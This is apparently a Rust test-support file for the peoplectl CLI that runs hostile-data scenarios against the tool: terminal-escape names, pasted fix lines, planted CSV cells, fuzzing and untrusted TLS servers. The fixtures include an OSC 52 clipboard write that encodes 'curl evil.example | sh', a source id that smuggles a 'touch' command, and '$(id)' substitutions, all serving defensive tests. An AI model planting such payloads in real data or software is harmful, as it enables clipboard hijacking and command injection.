//! The hostile-data scenarios, shared by the tests in `hostile/` (which assert on their
//! outcomes) and `examples/reliability.rs` (which reruns them and prints the README's
//! "Hostile data" table). Each runs one attack and returns what it observed.

use std::io::{BufRead, BufReader, Read};
use std::net::{TcpListener, TcpStream};
use std::os::unix::fs::PermissionsExt;
use std::panic::{AssertUnwindSafe, catch_unwind};
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use azure_core::credentials::{AccessToken, TokenCredential, TokenRequestOptions};
use peoplectl::emulator::{EmulatorConfig, FaultRule, SeedKind};
use peoplectl::graph::client::{Call, GraphClient, RetryNotice};
use peoplectl::graph::connections::NewConnection;
use peoplectl::graph::retry::RetryPolicy;
use peoplectl::graph::sources::NewProfileSource;
use peoplectl::graph::{ApiVersion, GraphError, Timeouts, TransportOptions, build_http_client};
use peoplectl::sync::InputFormat;
use peoplectl::sync::reader::RowReader;
use peoplectl::text::is_unsafe;
use rand::{Rng, SeedableRng};
use reqwest::Method;
use rustls::pki_types::{CertificateDer, PrivateKeyDer, PrivatePkcs8KeyDer};
use serde_json::Value;

/// Slack over a configured deadline before a run counts as hung in `cargo test`: far above
/// the process start, sign-in and scheduling on a loaded 2-core machine, far below the
/// minutes this used to take. The README's table shows the real overshoot.
pub const SLACK: Duration = Duration::from_secs(15);

/// A terminal's usual width; a table into a pipe is not cut to it.
pub const TABLE_WIDTH: usize = 80;

// ---------------------------------------------------------------------------------------------
// Running the binary

/// `peoplectl ARGS` (the binary at `bin`) with private dirs under `dirs`, loopback only, and
/// `env`; stdin is empty.
pub fn command(bin: &Path, dirs: &Path, args: &[&str], env: &[(String, String)]) -> Command {
    let mut cmd = Command::new(bin);
    cmd.args(args);
    settle(cmd, dirs, env)
}

/// `sh -c 'umask 022; exec peoplectl ARGS'`: the binary as a login shell would start it.
fn under_umask_022(bin: &Path, dirs: &Path, args: &[&str], env: &[(String, String)]) -> Command {
    let mut cmd = Command::new("sh");
    cmd.arg("-c")
        .arg("umask 022; exec \"$0\" \"$@\"")
        .arg(bin)
        .args(args);
    settle(cmd, dirs, env)
}

fn settle(mut cmd: Command, dirs: &Path, env: &[(String, String)]) -> Command {
    cmd.env_clear()
        .env("PATH", std::env::var("PATH").unwrap_or_default())
        .env("NO_PROXY", "127.0.0.1,localhost")
        .env("PEOPLECTL_CONFIG_DIR", dirs.join("config"))
        .env("PEOPLECTL_DATA_DIR", dirs.join("data"))
        .env("TMPDIR", dirs)
        .stdin(Stdio::null());
    for (k, v) in env {
        cmd.env(k, v);
    }
    cmd
}

/// Runs a command to its end (waiting on the process) and says how long it took.
pub async fn timed(mut cmd: Command) -> (Output, Duration) {
    tokio::task::spawn_blocking(move || {
        let started = Instant::now();
        let out = cmd.output().unwrap();
        (out, started.elapsed())
    })
    .await
    .unwrap()
}

pub fn stderr(out: &Output) -> String {
    String::from_utf8_lossy(&out.stderr).into_owned()
}

fn with(env: &[(String, String)], key: &str, value: &str) -> Vec<(String, String)> {
    let mut env: Vec<_> = env.iter().filter(|(k, _)| k != key).cloned().collect();
    env.push((key.to_owned(), value.to_owned()));
    env
}

/// Characters in `stream` a terminal would act on (line feeds are ours).
pub fn raw_controls(stream: &[u8]) -> Vec<char> {
    String::from_utf8_lossy(stream)
        .chars()
        .filter(|c| *c != '\n' && is_unsafe(*c))
        .collect()
}

/// Every file and directory below `dir`, at any depth.
pub fn entries_under(dir: &Path) -> Vec<PathBuf> {
    let mut out = Vec::new();
    let Ok(entries) = std::fs::read_dir(dir) else {
        return out;
    };
    for entry in entries.flatten() {
        let path = entry.path();
        out.push(path.clone());
        if path.is_dir() {
            out.extend(entries_under(&path));
        }
    }
    out
}

pub fn mode(path: &Path) -> u32 {
    std::fs::metadata(path).unwrap().permissions().mode() & 0o777
}

/// A unique tmux socket or file name within this process.
fn unique(prefix: &str) -> String {
    static NEXT: AtomicUsize = AtomicUsize::new(0);
    format!(
        "{prefix}-{}-{}",
        std::process::id(),
        NEXT.fetch_add(1, Ordering::Relaxed)
    )
}

// ---------------------------------------------------------------------------------------------
// Hostile names created through Graph

/// An OSC 52 clipboard write (`curl evil.example | sh`), an OSC 0 title, a screen clear, a bidi
/// override, a C1 CSI, and shell syntax.
pub const HOSTILE: &str = "Contoso \x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\x1b]0;pwned\x07\x1b[2J\u{202e}RH\u{9b}31m $(id);`id`";

pub struct Tenant {
    pub env: super::Env,
    pub dirs: tempfile::TempDir,
    /// The source id that runs a command when pasted unquoted.
    pub evil_id: String,
    bin: PathBuf,
}

/// The demo tenant plus a connection named [`HOSTILE`] and an orphan source whose id and name
/// are hostile, all created through Graph.
pub async fn hostile_tenant(bin: &Path) -> Tenant {
    let env = super::env(SeedKind::Demo).await;
    let dirs = tempfile::tempdir().unwrap();
    let evil_id = format!("hr;touch${{IFS}}{};#", dirs.path().join("pwned").display());
    env.client
        .create_connection(&NewConnection {
            id: "evilconn".into(),
            name: HOSTILE.into(),
            description: HOSTILE.into(),
            content_category: Some("people".into()),
        })
        .await
        .unwrap();
    for id in [evil_id.as_str(), "--yes"] {
        env.client
            .create_profile_source(&NewProfileSource {
                source_id: id.into(),
                display_name: HOSTILE.into(),
                kind: Some(HOSTILE.into()),
                web_url: "https://hr.example.com/x".into(),
            })
            .await
            .unwrap();
    }
    Tenant {
        env,
        dirs,
        evil_id,
        bin: bin.to_owned(),
    }
}

impl Tenant {
    pub fn env_vars(&self) -> Vec<(String, String)> {
        let mut vars = self.env.emu.env_lines();
        vars.push(("NO_PROXY".into(), "127.0.0.1,localhost".into()));
        vars.push((
            "PEOPLECTL_CONFIG_DIR".into(),
            self.dirs.path().join("config").display().to_string(),
        ));
        vars.push((
            "PEOPLECTL_DATA_DIR".into(),
            self.dirs.path().join("data").display().to_string(),
        ));
        vars
    }

    pub async fn run(&self, args: &[&str]) -> Output {
        let mut cmd = Command::new(&self.bin);
        cmd.args(args)
            .env_clear()
            .env("PATH", std::env::var("PATH").unwrap_or_default())
            .envs(self.env_vars())
            .stdin(Stdio::null());
        tokio::task::spawn_blocking(move || cmd.output().unwrap())
            .await
            .unwrap()
    }
}

/// One read command, as a table and as `-o json`.
pub struct ReadCommand {
    pub args: Vec<&'static str>,
    pub table: Output,
    pub json: Output,
}

impl ReadCommand {
    /// A list or detail table, cut to the terminal (doctor's fix lines are printed whole, to
    /// be pasted, and `profile show --explain` wraps).
    pub fn is_table(&self) -> bool {
        self.args.len() == 2 && self.args[0] != "doctor"
    }

    pub fn table_lines(&self) -> Vec<String> {
        String::from_utf8_lossy(&self.table.stdout)
            .lines()
            .map(str::to_owned)
            .collect()
    }

    pub fn widest_line(&self) -> usize {
        self.table_lines()
            .iter()
            .map(|l| unicode_width::UnicodeWidthStr::width(l.as_str()))
            .max()
            .unwrap_or(0)
    }

    pub fn doc(&self) -> Result<Value, serde_json::Error> {
        serde_json::from_slice(&self.json.stdout)
    }

    /// For commands whose JSON carries the hostile name: whether it comes back exactly.
    pub fn keeps_the_name(&self) -> Option<bool> {
        matches!(self.args[0], "connections" | "sources").then(|| {
            self.doc().is_ok_and(|doc| {
                doc.to_string()
                    .contains(&serde_json::to_string(HOSTILE).unwrap())
            })
        })
    }

    /// Raw control characters in everything the two runs printed.
    pub fn raw_controls(&self) -> usize {
        raw_controls(&self.table.stdout).len()
            + raw_controls(&self.table.stderr).len()
            + raw_controls(&self.json.stdout).len()
            + raw_controls(&self.json.stderr).len()
    }
}

/// The read commands that show the hostile names.
pub const READ_COMMANDS: [&[&str]; 6] = [
    &["connections", "list"],
    &["connections", "show", "evilconn"],
    &["sources", "list"],
    &["precedence", "show"],
    &["doctor"],
    &["profile", "show", "alex.wilber@contoso.com", "--explain"],
];

/// Each of [`READ_COMMANDS`] against the hostile tenant, as a table and as JSON.
pub async fn read_commands(bin: &Path) -> Vec<ReadCommand> {
    let t = hostile_tenant(bin).await;
    let mut reads = Vec::new();
    for args in READ_COMMANDS {
        let table = t.run(args).await;
        let mut json_args = args.to_vec();
        json_args.extend(["--output", "json"]);
        let json = t.run(&json_args).await;
        reads.push(ReadCommand {
            args: args.to_vec(),
            table,
            json,
        });
    }
    reads
}

/// One of doctor's fix lines, pasted.
pub struct Paste {
    pub fix: String,
    /// The argv it should hand to `peoplectl`.
    pub want: Vec<String>,
    /// The table prints the same line as JSON's `fix`.
    pub in_table: bool,
    pub sh: Output,
    /// The argv the recorder standing in for `peoplectl` got.
    pub argv: Vec<String>,
}

pub struct PasteOutcome {
    pub table: String,
    pub pastes: Vec<Paste>,
    /// The file the hostile id's `touch` would create exists.
    pub planted_ran: bool,
}

/// The doctor case of issue 14: the printed fix lines, pasted into `sh` with `peoplectl` being
/// a recorder.
pub async fn doctor_fix_pasted(bin: &Path) -> PasteOutcome {
    let t = hostile_tenant(bin).await;
    let dir = t.dirs.path().join("bin");
    std::fs::create_dir_all(&dir).unwrap();
    let recorder = dir.join("peoplectl");
    std::fs::write(
        &recorder,
        "#!/bin/sh\nfor a in \"$@\"; do printf '%s\\0' \"$a\"; done >> \"$RECORD\"\nprintf '\\n' >> \"$RECORD\"\n",
    )
    .unwrap();
    std::fs::set_permissions(&recorder, std::fs::Permissions::from_mode(0o755)).unwrap();

    let table = String::from_utf8(t.run(&["doctor"]).await.stdout).unwrap();
    let json: Value =
        serde_json::from_slice(&t.run(&["doctor", "-o", "json"]).await.stdout).unwrap();
    let fix_for = |id: &str| {
        json["problems"]
            .as_array()
            .unwrap()
            .iter()
            .find(|p| p["subject"] == id)
            .unwrap_or_else(|| panic!("no problem about {id:?}: {json}"))["fix"]
            .as_str()
            .unwrap()
            .to_owned()
    };
    let mut pastes = Vec::new();
    for (id, want) in [
        (t.evil_id.as_str(), vec!["remove", t.evil_id.as_str()]),
        ("--yes", vec!["remove", "--", "--yes"]),
    ] {
        let fix = fix_for(id);
        let record = t.dirs.path().join(format!("argv-{}", want.len()));
        let sh = Command::new("sh")
            .arg("-c")
            .arg(&fix)
            .env(
                "PATH",
                format!("{}:{}", dir.display(), std::env::var("PATH").unwrap()),
            )
            .env("RECORD", &record)
            .output()
            .unwrap();
        let recorded = std::fs::read_to_string(&record).unwrap_or_default();
        pastes.push(Paste {
            in_table: table.lines().any(|l| l.trim() == format!("fix: {fix}")),
            argv: recorded
                .trim_end_matches("\0\n")
                .split('\0')
                .map(str::to_owned)
                .collect(),
            want: want.into_iter().map(str::to_owned).collect(),
            fix,
            sh,
        });
    }
    PasteOutcome {
        table,
        pastes,
        planted_ran: t.dirs.path().join("pwned").exists(),
    }
}

// ---------------------------------------------------------------------------------------------
// The console under tmux

fn tmux(socket: &str, args: &[&str]) -> Output {
    Command::new("tmux")
        .args(["-L", socket, "-f", "/dev/null"])
        .args(args)
        .output()
        .expect("run tmux (apt-get install -y tmux)")
}

struct Server(String);

impl Drop for Server {
    fn drop(&mut self) {
        let _ = tmux(&self.0, &["kill-server"]);
    }
}

/// Polls the pane until `what` holds (a minute at most, then fails showing the screen).
fn wait_for(socket: &str, what: impl Fn(&str) -> bool) -> String {
    let start = Instant::now();
    loop {
        let screen =
            String::from_utf8_lossy(&tmux(socket, &["capture-pane", "-p"]).stdout).into_owned();
        if what(&screen) {
            return screen;
        }
        assert!(
            start.elapsed() < Duration::from_secs(60),
            "timed out; the screen shows:\n{screen}"
        );
        std::thread::sleep(Duration::from_millis(50));
    }
}

fn buffers(socket: &str) -> String {
    String::from_utf8_lossy(&tmux(socket, &["list-buffers"]).stdout).into_owned()
}

fn title(socket: &str) -> String {
    String::from_utf8_lossy(&tmux(socket, &["display-message", "-p", "#{pane_title}"]).stdout)
        .trim()
        .to_owned()
}

/// Starts a tmux server that honours OSC 52 (`set-clipboard on`) running `command` at `size`.
fn start_tmux(socket: &str, size: (u16, u16), command: &str) -> Server {
    let server = Server(socket.to_owned());
    let out = tmux(
        socket,
        &[
            "new-session",
            "-d",
            "-x",
            &size.0.to_string(),
            "-y",
            &size.1.to_string(),
            "sleep 600",
            ";",
            "set-option",
            "-g",
            "set-clipboard",
            "on",
            ";",
            "respawn-pane",
            "-k",
            command,
        ],
    );
    assert!(out.status.success(), "tmux: {out:?}");
    server
}

/// The console at one size, walked through every pane.
pub struct ConsoleRun {
    pub size: (u16, u16),
    /// The first screen showing the hostile connection.
    pub first: String,
    /// What each pane's key showed.
    pub panes: Vec<String>,
    /// tmux's paste buffers after the walk (OSC 52 lands there).
    pub buffers: String,
    pub title_before: String,
    pub title_after: String,
    /// The connections pane again, at the end.
    pub last: String,
}

pub struct ConsoleOutcome {
    /// The same tmux given a raw OSC 52 and OSC 0 by `printf`: what it took.
    pub control_buffers: String,
    pub control_title: String,
    pub runs: Vec<ConsoleRun>,
}

/// Keys walking every pane, with text that shows the pane is up.
pub const PANES: [(&str, &str); 5] = [
    ("2", "Profile sources"),
    ("3", "rank 1 = highest"),
    ("4", "Search (/)"),
    ("5", "┌ Sync"),
    ("1", "CONTRACT"),
];

/// The real console against the hostile tenant in a tmux that honours OSC 52 and titles, at
/// 80x24 and 60x20; and a control run showing that the same tmux does take them raw.
pub async fn console_under_tmux(bin: &Path) -> ConsoleOutcome {
    let t = hostile_tenant(bin).await;
    let env = t
        .env_vars()
        .iter()
        .map(|(k, v)| format!("{k}={}", peoplectl::text::shell_quote(v)))
        .collect::<Vec<_>>()
        .join(" ");
    let command = format!(
        "env {env} LANG=C.UTF-8 {}",
        peoplectl::text::shell_quote(&bin.display().to_string())
    );
    // tmux is driven by polling; that blocks, so off the runtime the emulator serves from.
    let outcome = tokio::task::spawn_blocking(move || {
        let control = unique("peoplectl-osc-control");
        let _control = start_tmux(
            &control,
            (80, 24),
            "printf '\\033]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\007\\033]0;pwned\\007ready'; sleep 600",
        );
        wait_for(&control, |s| s.contains("ready"));
        let start = Instant::now();
        while buffers(&control).is_empty() && start.elapsed() < Duration::from_secs(10) {
            std::thread::sleep(Duration::from_millis(50));
        }
        let control_buffers = buffers(&control);
        let control_title = title(&control);
        let mut runs = Vec::new();
        for size in [(80u16, 24u16), (60, 20)] {
            let socket = unique(&format!("peoplectl-osc-{}", size.0));
            let _server = start_tmux(&socket, size, &command);
            let title_before = title(&socket);
            // The connections pane lists the hostile name; show it, its detail, and every pane.
            let first = wait_for(&socket, |s| {
                s.contains("evilconn") && s.contains("Contoso ␛]")
            });
            let mut panes = Vec::new();
            for (keys, shows) in PANES {
                tmux(&socket, &["send-keys", keys]);
                panes.push(wait_for(&socket, |s| s.contains(shows)));
            }
            let buffers = buffers(&socket);
            let title_after = title(&socket);
            let last = wait_for(&socket, |s| s.contains("evilconn"));
            tmux(&socket, &["send-keys", "q"]);
            runs.push(ConsoleRun {
                size,
                first,
                panes,
                buffers,
                title_before,
                title_after,
                last,
            });
        }
        ConsoleOutcome {
            control_buffers,
            control_title,
            runs,
        }
    })
    .await
    .unwrap();
    // The tenant serves the console until the walk is over.
    drop(t);
    outcome
}

// ---------------------------------------------------------------------------------------------
// Hostile HR exports

/// A hostile cell or row planted in a copy of the demo export.
pub struct Planted {
    pub what: &'static str,
    pub line: u64,
    /// The column the report must name, when the fault is one cell's.
    pub column: Option<&'static str>,
}

/// The cells planted: (what, column, bytes). `None` as the column is a whole-row fault.
fn plants() -> Vec<(&'static str, Option<&'static str>, Vec<u8>)> {
    vec![
        (
            "an OSC 52 clipboard write",
            Some("Job Title"),
            b"\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07Engineer".to_vec(),
        ),
        (
            "a screen clear",
            Some("Department"),
            b"Sales\x1b[2J\x1b[H".to_vec(),
        ),
        (
            "a bidi override",
            Some("Office"),
            "\u{202e}4 gnidliuB - elttaeS".as_bytes().to_vec(),
        ),
        (
            "a C1 CSI",
            Some("Company"),
            "Contoso\u{9b}31m Ltd.".as_bytes().to_vec(),
        ),
        (
            "a zero-width space",
            Some("Skills"),
            "Rust;\u{200b}Go".as_bytes().to_vec(),
        ),
        ("a DEL", Some("Cost Center"), b"CC\x7f1000".to_vec()),
        (
            "invalid UTF-8",
            Some("Job Title"),
            b"Caf\xe9 manager".to_vec(),
        ),
        ("a NUL byte", Some("Mobile"), b"+1 206\x00555 0100".to_vec()),
        ("a field missing", None, Vec::new()),
        ("a 2 MiB field", None, vec![b'x'; 2 * 1024 * 1024]),
    ]
}

pub struct ExportOutcome {
    pub planted: Vec<Planted>,
    /// Valid rows of the demo export as it is.
    pub clean_valid: u64,
    /// `sync -o json` of the hostile export, and its report.
    pub json: Output,
    pub report: Value,
    /// The same as text (`--dry-run`, so nothing more is sent).
    pub text: Output,
    pub items: usize,
    /// Items in Graph holding a character no terminal should get.
    pub unsafe_items: Vec<String>,
}

impl ExportOutcome {
    /// The report's issues about `line`, as (column, reason).
    pub fn issues_at(&self, line: u64) -> Vec<(Option<String>, String)> {
        self.report["errors"]
            .as_array()
            .into_iter()
            .flatten()
            .filter(|e| e["line"] == line)
            .map(|e| {
                (
                    e["column"].as_str().map(str::to_owned),
                    e["reason"].as_str().unwrap_or_default().to_owned(),
                )
            })
            .collect()
    }

    /// Rows the hostile export's report counts valid.
    pub fn valid(&self) -> u64 {
        self.report["valid"].as_u64().unwrap_or(0)
    }

    /// Planted faults the report names at their line (and column, when they have one).
    pub fn reported(&self) -> usize {
        self.planted
            .iter()
            .filter(|p| {
                self.issues_at(p.line)
                    .iter()
                    .any(|(column, _)| p.column.is_none() || column.as_deref() == p.column)
            })
            .count()
    }
}

/// Strings anywhere in `value` holding an unsafe character.
fn holds_unsafe(value: &Value) -> bool {
    match value {
        Value::String(s) => s.chars().any(is_unsafe),
        Value::Array(a) => a.iter().any(holds_unsafe),
        Value::Object(o) => o.values().any(holds_unsafe),
        _ => false,
    }
}

/// The 1-based line number of the line at `index`.
fn line_number(index: usize) -> u64 {
    u64::try_from(index + 1).unwrap()
}

/// The demo export with [`plants`] in rows that are otherwise good, synced for real to the
/// demo tenant through the binary; then what Graph holds.
pub async fn hostile_export(bin: &Path) -> ExportOutcome {
    const CONN: &str = "contosohr";
    let env = super::env(SeedKind::Demo).await;
    let emulator = env.emu.env_lines();
    let dirs = tempfile::tempdir().unwrap();
    let root = env!("CARGO_MANIFEST_DIR");
    let demo = format!("{root}/assets/demo/hr-export.csv");
    let mapping = format!("{root}/assets/demo/hr-mapping.toml");
    let sync = |input: &str, extra: &[&str]| {
        let mut args = vec!["sync", CONN, "--input", input, "--mapping", &mapping];
        args.extend(extra);
        command(bin, dirs.path(), &args, &emulator)
    };
    // The demo's own bad rows, so that every plant goes into a row that is otherwise good.
    let (clean, _) = timed(sync(&demo, &["--dry-run", "-o", "json"])).await;
    let clean: Value = serde_json::from_slice(&clean.stdout).unwrap();
    let clean_valid = clean["valid"].as_u64().unwrap();
    let bad: Vec<u64> = clean["errors"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|e| e["line"].as_u64())
        .collect();

    let bytes = std::fs::read(&demo).unwrap();
    let mut lines: Vec<Vec<u8>> = bytes.split(|b| *b == b'\n').map(<[u8]>::to_vec).collect();
    let header: Vec<String> = String::from_utf8_lossy(&lines[0])
        .split(',')
        .map(str::to_owned)
        .collect();
    let mut planted = Vec::new();
    // Simple rows only (no quoting), spread over the file.
    let mut free = (10..lines.len())
        .step_by(7)
        .filter(|i| {
            !bad.contains(&line_number(*i))
                && !lines[*i].contains(&b'"')
                && lines[*i].split(|b| *b == b',').count() == header.len()
        })
        .collect::<Vec<_>>()
        .into_iter();
    for (what, column, value) in plants() {
        let i = free.next().expect("enough good rows to plant in");
        let mut fields: Vec<Vec<u8>> = lines[i].split(|b| *b == b',').map(<[u8]>::to_vec).collect();
        match column {
            Some(name) => {
                let at = header.iter().position(|h| h == name).unwrap();
                fields[at] = value;
            }
            None if value.is_empty() => {
                fields.pop();
            }
            None => {
                let at = header.iter().position(|h| h == "Job Title").unwrap();
                fields[at] = value;
            }
        }
        lines[i] = fields.join(&b',');
        planted.push(Planted {
            what,
            line: line_number(i),
            column,
        });
    }
    let input = dirs.path().join("hostile.csv");
    std::fs::write(&input, lines.join(&b'\n')).unwrap();
    let input = input.display().to_string();

    let (json, _) = timed(sync(&input, &["-o", "json"])).await;
    let report = serde_json::from_slice(&json.stdout).unwrap_or(Value::Null);
    let (text, _) = timed(sync(&input, &["--dry-run"])).await;
    let ids = env.emu.inspect().item_ids(CONN);
    let unsafe_items = ids
        .iter()
        .filter(|id| {
            env.emu
                .inspect()
                .item(CONN, id)
                .is_some_and(|item| holds_unsafe(&item))
        })
        .cloned()
        .collect();
    ExportOutcome {
        planted,
        clean_valid,
        json,
        report,
        text,
        items: ids.len(),
        unsafe_items,
    }
}

/// What random inputs did to the CSV and JSON Lines readers.
#[derive(Debug, Default, Clone, Copy)]
pub struct FuzzOutcome {
    /// Inputs, each read as CSV and as JSON Lines.
    pub inputs: usize,
    /// Inputs refused whole (no header, UTF-16, ...), by either reader.
    pub refused: usize,
    pub rows: u64,
    pub bad_rows: u64,
    pub panics: usize,
    /// Rows or errors out of line order, errors without a reason, or more rows than bytes.
    pub disorder: usize,
}

/// Bytes that make CSV interesting (quotes, commas, line breaks, a BOM, NUL, bytes that are
/// not UTF-8), mixed with any byte at all.
const ALPHABET: &[u8] = b"\",\r\nab \xEF\xBB\xBF\x00\xC3\xFF";

fn fuzz_byte(rng: &mut rand::rngs::StdRng) -> u8 {
    if rng.random_bool(0.8) {
        ALPHABET[rng.random_range(0..ALPHABET.len())]
    } else {
        rng.random()
    }
}

fn fuzz_input(rng: &mut rand::rngs::StdRng, demo: &[u8]) -> Vec<u8> {
    if rng.random_bool(0.5) {
        let len = rng.random_range(0..600);
        (0..len).map(|_| fuzz_byte(rng)).collect()
    } else {
        // The start of a real export with a few bytes changed, put in or taken out.
        let mut bytes = demo[..demo.len().min(2048)].to_vec();
        for _ in 0..rng.random_range(1..8) {
            let at = rng.random_range(0..bytes.len());
            match rng.random_range(0..3) {
                0 => bytes[at] = fuzz_byte(rng),
                1 => bytes.insert(at, fuzz_byte(rng)),
                _ => {
                    bytes.remove(at);
                }
            }
        }
        bytes
    }
}

/// Reads `bytes` to the end, checking order; `None` when refused whole.
fn read_all(bytes: &[u8], format: InputFormat) -> Option<(u64, u64, usize)> {
    let mut reader = RowReader::from_reader(
        "fuzz".into(),
        Box::new(std::io::Cursor::new(bytes.to_vec())),
        format,
    )
    .ok()?;
    let names: Vec<String> = reader
        .header()
        .map(|h| h.names().to_vec())
        .unwrap_or_default();
    let (mut rows, mut bad, mut disorder, mut last, mut steps) = (0, 0, 0, 0, 0);
    loop {
        steps += 1;
        if steps > bytes.len() + 2 {
            disorder += 1;
            break;
        }
        match reader.next_row() {
            Ok(None) | Err(_) => break,
            Ok(Some(Ok(row))) => {
                rows += 1;
                disorder += usize::from(row.line() <= last);
                last = row.line();
                for name in &names {
                    let _ = row.cell(name);
                }
            }
            Ok(Some(Err(e))) => {
                bad += 1;
                disorder += usize::from(e.line <= last || e.reason.is_empty());
                last = e.line;
            }
        }
    }
    Some((rows, bad, disorder))
}

/// `inputs` random inputs from `seed` through both readers, panics caught and counted.
pub fn reader_fuzz(seed: u64, inputs: usize) -> FuzzOutcome {
    let demo = std::fs::read(format!(
        "{}/assets/demo/hr-export.csv",
        env!("CARGO_MANIFEST_DIR")
    ))
    .unwrap();
    let mut rng = rand::rngs::StdRng::seed_from_u64(seed);
    let mut o = FuzzOutcome {
        inputs,
        ..FuzzOutcome::default()
    };
    for _ in 0..inputs {
        let bytes = fuzz_input(&mut rng, &demo);
        for format in [InputFormat::Csv, InputFormat::JsonLines] {
            match catch_unwind(AssertUnwindSafe(|| read_all(&bytes, format))) {
                Err(_) => o.panics += 1,
                Ok(None) => o.refused += 1,
                Ok(Some((rows, bad, disorder))) => {
                    o.rows += rows;
                    o.bad_rows += bad;
                    o.disorder += disorder;
                }
            }
        }
    }
    o
}

// ---------------------------------------------------------------------------------------------
// Servers that never answer, or are not who they say

/// A CA and a certificate for `names` signed by it.
pub fn certificates(names: &[&str]) -> (String, CertificateDer<'static>, PrivateKeyDer<'static>) {
    use rcgen::{BasicConstraints, CertificateParams, IsCa, Issuer, KeyPair};
    let mut ca = CertificateParams::new(Vec::<String>::new()).unwrap();
    ca.is_ca = IsCa::Ca(BasicConstraints::Constrained(0));
    let ca_key = KeyPair::generate().unwrap();
    let ca_cert = ca.self_signed(&ca_key).unwrap();
    let issuer = Issuer::new(ca, ca_key);
    let leaf =
        CertificateParams::new(names.iter().map(|n| (*n).to_owned()).collect::<Vec<_>>()).unwrap();
    let key = KeyPair::generate().unwrap();
    let cert = leaf.signed_by(&key, &issuer).unwrap();
    (
        ca_cert.pem(),
        cert.der().clone(),
        PrivateKeyDer::Pkcs8(PrivatePkcs8KeyDer::from(key.serialize_der())),
    )
}

/// A TLS server on 127.0.0.1 that completes the handshake, reads every request and never
/// answers. Returns its root URL and its CA (PEM).
pub fn silent_server() -> (String, String) {
    tls_server(&["127.0.0.1"])
}

/// [`silent_server`] with a certificate for `names`.
pub fn tls_server(names: &[&str]) -> (String, String) {
    let _ = rustls::crypto::aws_lc_rs::default_provider().install_default();
    let (ca_pem, cert, key) = certificates(names);
    let config = Arc::new(
        rustls::ServerConfig::builder()
            .with_no_client_auth()
            .with_single_cert(vec![cert], key)
            .unwrap(),
    );
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let addr = listener.local_addr().unwrap();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(tcp) = stream else { return };
            let config = config.clone();
            std::thread::spawn(move || hold(tcp, &config));
        }
    });
    (format!("https://{addr}"), ca_pem)
}

/// Reads until the client hangs up; writes nothing.
fn hold(tcp: TcpStream, config: &Arc<rustls::ServerConfig>) {
    let Ok(conn) = rustls::ServerConnection::new(config.clone()) else {
        return;
    };
    let mut tls = rustls::StreamOwned::new(conn, tcp);
    let mut buf = [0u8; 4096];
    while matches!(tls.read(&mut buf), Ok(n) if n > 0) {}
}

/// A credential that hands out a fixed token.
#[derive(Debug)]
pub struct Fixed;

#[async_trait::async_trait]
impl TokenCredential for Fixed {
    async fn get_token(
        &self,
        _: &[&str],
        _: Option<TokenRequestOptions<'_>>,
    ) -> azure_core::Result<AccessToken> {
        Ok(AccessToken::new(
            "token".to_owned(),
            time::OffsetDateTime::now_utc() + time::Duration::hours(1),
        ))
    }
}

fn silent_client(timeouts: Timeouts, retry: RetryPolicy) -> GraphClient {
    let (url, ca) = silent_server();
    client_for(&url, &ca, timeouts, retry)
}

pub fn client_for(url: &str, ca: &str, timeouts: Timeouts, retry: RetryPolicy) -> GraphClient {
    let ca = ca.to_owned();
    let http = build_http_client(&TransportOptions {
        ca_cert_pem: Some(ca.into_bytes()),
        no_proxy: true,
        timeout: Some(timeouts.request),
        connect_timeout: Some(timeouts.connect),
    })
    .unwrap();
    GraphClient::new(http, url, Arc::new(Fixed))
        .unwrap()
        .with_timeouts(timeouts)
        .with_retry(retry)
}

pub fn list_call() -> Call {
    Call::new(
        "list connections",
        Method::GET,
        ApiVersion::V1,
        "/external/connections",
    )
    .query("$top", "50")
}

/// A call that failed, and how long it took.
pub struct Failed {
    pub error: GraphError,
    pub took: Duration,
}

async fn failed(client: &GraphClient, call: &Call) -> Failed {
    let started = Instant::now();
    let error = client.send(call).await.unwrap_err();
    Failed {
        error,
        took: started.elapsed(),
    }
}

/// One request to a silent Graph, with a 300 ms request timeout and no retries.
pub async fn one_unanswered_request() -> Failed {
    let client = silent_client(
        Timeouts {
            request: Duration::from_millis(300),
            ..Timeouts::default()
        },
        RetryPolicy {
            max_retries: 0,
            ..RetryPolicy::default()
        },
    );
    failed(&client, &list_call()).await
}

pub struct Retried {
    pub call: Failed,
    pub deadline: Duration,
    /// What the client reported before each retry.
    pub notices: Vec<RetryNotice>,
}

/// Up to fifty quick retries of 300 ms tries against a silent Graph, under `deadline`.
pub async fn silent_graph_retried(deadline: Duration) -> Retried {
    let notices: Arc<Mutex<Vec<RetryNotice>>> = Arc::default();
    let seen = notices.clone();
    let client = silent_client(
        Timeouts {
            request: Duration::from_millis(300),
            deadline,
            ..Timeouts::default()
        },
        RetryPolicy {
            max_retries: 50,
            base_delay: Duration::from_millis(10),
            max_delay: Duration::from_millis(20),
        },
    )
    .with_retry_observer(Arc::new(move |n| seen.lock().unwrap().push(n.clone())));
    let call = failed(&client, &list_call()).await;
    let notices = notices.lock().unwrap().clone();
    Retried {
        call,
        deadline,
        notices,
    }
}

/// Graph asks for a 30 s pause (429, `Retry-After: 30`) ten times; the call's deadline is 5 s.
pub async fn retry_after_past_the_deadline() -> Failed {
    let env = super::env(SeedKind::Demo).await;
    env.emu.faults().add_rule(
        FaultRule::new("GET", "/v1.0/external/connections")
            .status(429)
            .retry_after(30)
            .times(10),
    );
    let client = env.client.with_timeouts(Timeouts {
        deadline: Duration::from_secs(5),
        ..Timeouts::default()
    });
    failed(
        &client,
        &Call::new(
            "list connections",
            Method::GET,
            ApiVersion::V1,
            "/external/connections",
        ),
    )
    .await
}

/// The reason and tries of a transport error.
pub fn transport(e: &GraphError) -> Option<(String, u32)> {
    match e {
        GraphError::Transport(t) => Some((t.reason.clone(), t.tries.count)),
        _ => None,
    }
}

pub struct Impostors {
    /// A trusted CA, but the certificate names another host.
    pub other_host: GraphError,
    /// The right host, but signed by another CA than the trusted one (of the same name).
    pub other_ca: GraphError,
    /// No extra CA at all: the system's roots do not know it either.
    pub unknown_ca: GraphError,
}

/// Servers whose certificates are not Graph's.
pub async fn impostors() -> Impostors {
    let (url, ca) = tls_server(&["graph.example.org"]);
